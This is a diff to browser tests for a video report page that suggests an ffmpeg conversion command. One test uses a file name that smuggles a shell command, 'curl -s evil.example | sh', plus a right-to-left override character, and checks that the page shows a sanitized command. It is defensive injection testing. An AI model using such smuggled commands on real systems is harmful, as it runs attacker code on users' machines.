@@ -13,6 +13,7 @@ from tests.browser.pages import ReportPage
 from tests.browser.results import BLUE, make_box, make_element, make_results
 from tests.browser.shared_site import SharedSite, share_folder
 from tests.conftest import OpenPage
+from tests.stand_ins.videos import HEIGHT, WIDTH, VideoSpec, make_video
 from videoinfer.repository import SAMPLE_VIDEO
 from videojobs.report import ReportFacts, ReportWriter
 
@@ -209,9 +210,9 @@ def test_a_file_that_was_moved_is_told_and_found_again(open_report: OpenReport, 
 
 def test_a_video_that_browsers_do_not_play_is_told_with_a_command(open_report: OpenReport, tmp_path: Path) -> None:
     video = tmp_path / "belt 1.avi"
-    video.write_bytes(b"RIFF....AVI ")
+    video.write_bytes(make_video(VideoSpec(format="avi", codec="mpeg4")))
 
-    report = open_report(make_results([make_element([])] * 50), video=video)
+    report = open_report(make_results([make_element([], WIDTH, HEIGHT)] * 5, frame_rate=24), video=video)
 
     report.page.locator("#curtain").wait_for()
     assert "ffmpeg -i './belt 1.avi' './belt 1.mp4'" in report.text("#curtain-text")
@@ -219,9 +220,9 @@ def test_a_video_that_browsers_do_not_play_is_told_with_a_command(open_report: O
 
 def test_no_name_gets_a_command_of_its_own_into_the_page(open_report: OpenReport, tmp_path: Path) -> None:
     video = tmp_path / "belt'; curl -s evil.example | sh; '\u202e.mkv"
-    video.write_bytes(b"")
+    video.write_bytes(make_video(VideoSpec(format="matroska", codec="mpeg4")))
 
-    report = open_report(make_results([make_element([])] * 50), video=video)
+    report = open_report(make_results([make_element([], WIDTH, HEIGHT)] * 5, frame_rate=24), video=video)
 
     report.page.locator("#curtain").wait_for()
     assert "ffmpeg -i ./VIDEO ./VIDEO.mp4, and choose that" in report.text("#curtain-text")
